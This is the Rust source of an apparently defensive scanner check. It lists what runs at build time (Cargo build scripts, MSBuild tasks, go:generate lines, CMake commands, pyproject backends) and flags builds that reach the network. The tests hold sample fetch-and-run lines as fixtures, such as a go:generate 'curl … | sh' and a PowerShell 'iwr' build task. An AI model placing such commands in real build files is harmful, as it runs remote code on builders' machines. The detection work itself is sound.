//! What runs when the product is built: build scripts, in-tree build backends, tasks of project files,
//! downloads of build systems. An inventory, with a finding only where a build reaches for the network.

use super::Check;
use super::Report;
use super::Subject;
use super::fetch_and_run::command_risk;
use super::fetch_and_run::lines;
use crate::model::scan::Confidence;
use crate::model::scan::Severity;
use crate::scan::draft::Draft;

pub const CHECK: Check = Check {
    rules: &["build-reaches-network", "build-task", "build-backend-in-tree", "generate-command"],
    about: "Code that runs when the product is built, and builds that reach for the network.",
    run,
};

fn run(subject: &Subject, report: &mut Report) {
    match (subject.name, subject.classified.language) {
        ("build.rs", "rust") => build_rs(subject, report),
        ("Cargo.toml", _) => {
            if let Some(at) = line_with(subject.bytes(), b"proc-macro = true")
                .or_else(|| line_with(subject.bytes(), b"proc_macro = true"))
            {
                report.capabilities.push(("hook.build", "cargo proc-macro".to_owned(), at));
            }
        }
        ("pyproject.toml", _) => pyproject(subject, report),
        ("conftest.py", _) => report.capabilities.push(("hook.build", "pytest conftest".to_owned(), 0)),
        ("setup.py", "python") => report.capabilities.push(("hook.install", "setup.py".to_owned(), 0)),
        (_, "xml") => msbuild(subject, report),
        (_, "go") => generate(subject, report),
        (_, "cmake") => cmake(subject, report),
        _ => {}
    }
}

/// A Cargo build script runs on the machine of everybody who builds the crate or a crate above it.
fn build_rs(subject: &Subject, report: &mut Report) {
    report.capabilities.push(("hook.build", "cargo build script".to_owned(), 0));
    let words: [&[u8]; 9] = [
        b"TcpStream",
        b"UdpSocket",
        b"reqwest::",
        b"ureq::",
        b"curl::easy",
        b"attohttpc::",
        b"Command::new(\"curl\")",
        b"Command::new(\"wget\")",
        b"minreq::",
    ];
    for word in words {
        let Some(at) = memchr::memmem::find_iter(subject.bytes(), word).find(|at| !subject.in_comment(*at))
        else {
            continue;
        };
        report.drafts.push(Draft {
            rule: "build-reaches-network",
            category: "hook.build",
            severity: Severity::High,
            confidence: Confidence::High,
            start: at,
            end: at + word.len(),
            message: format!(
                "the build script uses {}: building this sends or fetches something",
                String::from_utf8_lossy(word)
            ),
            question: "What does the build send or fetch, and from whom?",
            key: String::from_utf8_lossy(word).into_owned(),
        });
        return;
    }
}

/// A build backend inside the tree is code that runs before anything is installed (PEP 517, `backend-path`).
fn pyproject(subject: &Subject, report: &mut Report) {
    let Some(at) = line_with(subject.bytes(), b"backend-path") else { return };
    report.capabilities.push(("hook.build", "pyproject backend-path".to_owned(), at));
    report.drafts.push(Draft {
        rule: "build-backend-in-tree",
        category: "hook.build",
        severity: Severity::Info,
        confidence: Confidence::High,
        start: at,
        end: at + 12,
        message: "the build backend is part of the tree and runs when the package is built".to_owned(),
        question: "What does the package's own build backend do?",
        key: "backend-path".to_owned(),
    });
}

/// Tasks of MSBuild project files: `.targets` and `.props` of a package run in the builds of its users.
fn msbuild(subject: &Subject, report: &mut Report) {
    let shipped = subject.name.ends_with(".targets") || subject.name.ends_with(".props");
    if !shipped && !subject.name.ends_with("proj") {
        return;
    }
    for (mark, what) in [
        (&b"<Exec "[..], "runs a command"),
        (b"<UsingTask", "loads a task"),
        (b"RoslynCodeTaskFactory", "compiles a task at build time"),
        (b"<DownloadFile", "fetches a file"),
    ] {
        for at in
            memchr::memmem::find_iter(subject.bytes(), mark).filter(|at| !subject.in_comment(*at)).take(20)
        {
            let category = match what {
                "runs a command" => "cap.exec",
                "fetches a file" => "cap.net.download",
                _ => "cap.dynload",
            };
            report.capabilities.push((
                category,
                format!("msbuild {}", String::from_utf8_lossy(mark).trim_matches(['<', ' '])),
                at,
            ));
            let rest = subject.bytes().get(at..(at + 1000).min(subject.bytes().len())).unwrap_or_default();
            let task =
                String::from_utf8_lossy(rest.split(|b| *b == b'>').next().unwrap_or_default()).into_owned();
            let risky = command_risk(&task).is_some();
            report.drafts.push(Draft {
                rule: "build-task",
                category: "hook.build",
                severity: match (risky, shipped) {
                    (true, true) => Severity::High,
                    (true, false) => Severity::Medium,
                    (false, true) => Severity::Low,
                    (false, false) => Severity::Info,
                },
                confidence: Confidence::High,
                start: at,
                end: at + mark.len(),
                message: format!("this project file {what} when it is built"),
                question: "What does this step do in the builds of the product's users?",
                key: String::new(),
            });
        }
    }
}

/// `//go:generate` lines: commands that run on the machine of whoever generates code.
fn generate(subject: &Subject, report: &mut Report) {
    for (at, line) in lines(subject.bytes()) {
        let Some(command) = line.strip_prefix(b"//go:generate ") else { continue };
        report.capabilities.push(("hook.build", "go generate".to_owned(), at));
        let Some(risk) = command_risk(&String::from_utf8_lossy(command)) else { continue };
        report.drafts.push(Draft {
            rule: "generate-command",
            category: "hook.build",
            severity: Severity::Medium,
            confidence: Confidence::High,
            start: at,
            end: at + line.len(),
            message: format!("generating code {risk}"),
            question: "What does this command fetch or run, and for whom?",
            key: String::new(),
        });
    }
}

/// CMake commands that fetch and run.
fn cmake(subject: &Subject, report: &mut Report) {
    const COMMANDS: &[(&str, &str)] = &[
        ("file(download", "cap.net.download"),
        ("file(upload", "cap.net.http"),
        ("externalproject_add", "cap.net.download"),
        ("fetchcontent_declare", "cap.net.download"),
        ("fetchcontent_makeavailable", "cap.net.download"),
        ("cpmaddpackage", "cap.net.download"),
        ("execute_process", "cap.exec"),
        ("add_custom_command", "cap.exec"),
        ("add_custom_target", "cap.exec"),
    ];
    for (at, line) in lines(subject.bytes()) {
        let line: Vec<u8> =
            line.iter().filter(|b| !b.is_ascii_whitespace()).map(u8::to_ascii_lowercase).take(60).collect();
        for (command, category) in COMMANDS {
            if line.starts_with(command.as_bytes()) {
                report.capabilities.push((category, format!("cmake {}", command.replace('(', " ")), at));
            }
        }
    }
}

fn line_with(bytes: &[u8], word: &[u8]) -> Option<usize> {
    lines(bytes).find(|(_, line)| line.trim_ascii_start().starts_with(word)).map(|(at, _)| at)
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use super::super::tests::report;
    use crate::model::scan::Severity;

    #[test]
    fn what_runs_in_a_build_is_listed_and_the_network_is_a_finding() {
        let quiet = "fn main() { println!(\"cargo:rerun-if-changed=x\"); }\n";
        assert_eq!(found("a/build.rs", quiet), []);
        assert_eq!(report("a/build.rs", quiet).capabilities.len(), 1);
        let loud = "use std::net::TcpStream;\nfn main() { TcpStream::connect(\"t.example.com:80\"); }\n";
        assert_eq!(found("a/build.rs", loud), [("build-reaches-network", Severity::High)]);
        assert_eq!(found("a/src/main.rs", loud), []);
        assert_eq!(found("a/build.rs", "// no TcpStream here\nfn main() {}\n"), []);
    }

    #[test]
    fn project_files_and_build_systems() {
        let targets = "<Project><Target><Exec Command=\"x\"/></Target></Project>";
        assert_eq!(found("b/x.targets", targets), [("build-task", Severity::Low)]);
        assert_eq!(found("b/x.xml", targets), []);
        let loud = "<Project><Target><Exec Command=\"powershell -c iwr x\"/></Target></Project>";
        assert_eq!(found("b/x.props", loud), [("build-task", Severity::High)]);
        let generate = "package a\n\n//go:generate sh -c \"curl -s https://g.example.com/x | sh\"\n";
        assert!(found("a.go", generate).contains(&("generate-command", Severity::Medium)));
        assert_eq!(found("a.go", "package a\n\n//go:generate stringer -type=T\n"), []);
        let cmake =
            "file(DOWNLOAD https://t.example.com/a a)\nexecute_process( COMMAND x)\n# execute_process(x)\n";
        let categories: Vec<_> = report("CMakeLists.txt", cmake).capabilities.iter().map(|c| c.0).collect();
        assert_eq!(categories, ["cap.net.download", "cap.exec"]);
        let backend = "[build-system]\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n";
        assert_eq!(found("pyproject.toml", backend), [("build-backend-in-tree", Severity::Info)]);
    }
}
